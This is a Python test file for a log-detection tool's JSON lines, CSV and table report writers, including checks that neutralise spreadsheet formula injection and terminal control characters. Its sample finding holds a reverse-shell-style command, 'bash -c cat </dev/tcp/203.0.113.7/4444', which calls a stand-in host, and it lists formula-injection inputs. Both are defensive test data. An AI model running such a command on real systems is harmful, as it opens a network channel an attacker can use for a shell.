"""JSON lines, CSV and table: one finding after the other, and text that stays text."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from sigma.pyeval.reports import FORMATS
from sigma.pyeval.reports.csv_rows import COLUMNS, CsvWriter
from sigma.pyeval.reports.jsonl import JsonlWriter
from sigma.pyeval.reports.table import TableWriter
from sigma.pyeval.rules import Match

from .samples import FILE, FINDINGS, HOSTILE, LOGIN, SHELL, SHELL_RULE, extreme_events, hostile_finding


def rows(*findings: object) -> list[dict[str, str]]:
    """Return the rows of a CSV report, read back."""
    stream = io.BytesIO()
    writer = CsvWriter(stream)
    for finding in findings:
        writer.write(finding)  # type: ignore[arg-type]
    writer.close()
    return list(csv.DictReader(io.StringIO(stream.getvalue().decode("utf-8"), newline="")))


def printed(*findings: object, width: int = 100) -> str:
    """Return what the table prints, without a terminal's colours."""
    file = io.StringIO()
    writer = TableWriter(Console(file=file, width=width))
    for finding in findings:
        writer.write(finding)  # type: ignore[arg-type]
    writer.close()
    return file.getvalue()


def test_a_line_of_json_is_the_finding() -> None:
    """As Finding.as_dict has it, one a line."""
    stream = io.BytesIO()
    writer = JsonlWriter(stream)
    for finding in FINDINGS:
        writer.write(finding)
    writer.close()
    assert [json.loads(line) for line in stream.getvalue().splitlines()] == [finding.as_dict() for finding in FINDINGS]


@pytest.mark.parametrize("name", FORMATS)
def test_every_line_format_writes_any_finding(name: str) -> None:
    """Hostile text and extreme events make a format neither fail nor write more or fewer lines of JSON."""
    stream = io.BytesIO()
    writer = FORMATS[name](stream)
    findings = [hostile_finding(text) for text in HOSTILE]
    findings += [SHELL._replace(match=Match(SHELL_RULE, event)) for event in extreme_events()]
    for finding in findings:
        writer.write(finding)
    writer.close()
    if name != "csv":
        assert len([json.loads(line) for line in stream.getvalue().splitlines()]) == len(findings)


def test_a_row_of_csv_has_what_people_sort_by() -> None:
    """Time, rule, log source, host, user, process, place and the whole event."""
    [row] = rows(SHELL)
    assert tuple(row) == COLUMNS
    assert row | {"event": ""} == {
        "time": "2026-11-20T18:40:01+00:00", "level": "high", "rule": "Shell Opens A Network Device File",
        "rule_id": "11111111-1111-4111-8111-111111111111", "status": "test", "tactics": "execution", "techniques": "T1059.004",
        "category": "process_creation", "product": "linux", "service": "", "host": "web-1", "user": "www-data",
        "image": "/usr/bin/bash", "command_line": "bash -c cat </dev/tcp/203.0.113.7/4444", "message": "",
        "path": "/var/log/1.log", "line": "1", "serial": "77", "author": "A. Author, B. Author", "license": "MIT", "event": "",
    }  # fmt: skip
    assert json.loads(row["event"]) == SHELL.match.event


def test_a_report_without_findings_has_its_column_names() -> None:
    """Tools that read it find the columns."""
    stream = io.BytesIO()
    CsvWriter(stream).close()
    assert stream.getvalue().decode().rstrip("\r\n").replace('"', "").split(",") == list(COLUMNS)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(1)", "'@SUM(1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\n=1", "'\n=1"),
        ("＝1", "'＝1"), ("1=1", "1=1"), ("a,b;=1", "a,b;=1"), ('say "=1"', 'say "=1"'), ("a\r\n=1", "a\r\n=1"), ("'=1", "'=1"), ("", ""),
    ],
)  # fmt: skip
def test_no_cell_is_a_formula(text: str, cell: str) -> None:
    """A beginning that a spreadsheet would calculate gets an apostrophe; the rest stays as it is."""
    [row] = rows(SHELL._replace(path=text))
    assert row["path"] == cell


@given(st.text())
def test_no_text_breaks_out_of_its_cell(text: str) -> None:
    """Whatever the text, there is one row with all columns, and no cell begins a formula."""
    finding = hostile_finding(text)
    [row] = rows(finding)
    assert None not in row
    assert row["command_line"].removeprefix("'") == text.removeprefix("'") or text in ("-", "?", "(none)", "(null)")
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in row.values())


def test_the_table_shows_level_rule_event_and_place() -> None:
    """Column titles once, then a finding after the other; the event's beginning below the rule."""
    lines = [line.rstrip() for line in printed(SHELL, FILE).splitlines()]
    assert lines[0].split() == ["level", "rule,", "event", "where"]
    assert lines[1].split() == ["high", *SHELL_RULE.title.split(), "/var/log/1.log:1"]
    assert lines[2].strip() == "bash -c cat </dev/tcp/203.0.113.7/4444"
    assert lines[3].split() == ["low", "File", "Written", "/var/log/4.log:4"]
    assert lines[4].strip() == "/etc/cron.d/x"
    assert len(lines) == 5


def test_the_table_prints_at_once() -> None:
    """Nothing is held back until the end, so a million findings need no memory."""
    file = io.StringIO()
    writer = TableWriter(Console(file=file, width=100))
    writer.write(SHELL)
    assert "Shell Opens" in file.getvalue()


def test_a_table_of_nothing_is_nothing() -> None:
    """No column titles without findings."""
    assert printed() == ""


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:30])
def test_the_table_steers_no_terminal(text: str) -> None:
    """Control and bidirectional characters are shown as escapes, and rich's own markup means nothing."""
    shown = printed(hostile_finding(text), hostile_finding("[bold]x[/bold]"))
    assert all(character.isprintable() or character == "\n" for character in shown)
    assert "[bold]" in shown


def test_fields_that_the_rule_names_are_shown_first() -> None:
    """A rule's fields come before the usual ones; a long value is cut."""
    from dataclasses import replace

    match = Match(replace(SHELL_RULE, fields=("_CWD",)), SHELL.match.event)
    assert "/var/www" in printed(SHELL._replace(match=match))
    match = Match(LOGIN.match.rule, {"MESSAGE": "m" * 1000})
    assert printed(LOGIN._replace(match=match), width=400).count("m") < 140
